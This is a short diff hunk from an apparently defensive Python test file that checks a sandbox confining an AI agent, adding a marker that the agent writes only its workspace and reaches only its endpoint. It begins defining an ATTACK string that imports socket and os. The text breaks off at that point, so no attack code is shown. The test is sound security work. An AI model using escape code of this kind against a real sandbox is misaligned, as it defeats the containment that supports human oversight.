@@ -22,7 +22,7 @@ from tests.sandboxes import needs_strict
 from workers.process import marked
 from workers.sandbox import trials
 
-pytestmark = needs_strict
+pytestmark = [needs_strict, pytest.mark.guarantee("the agent writes only its workspace, and reaches only its endpoint")]
 
 ATTACK = """
 import ctypes, json, os, socket, sys
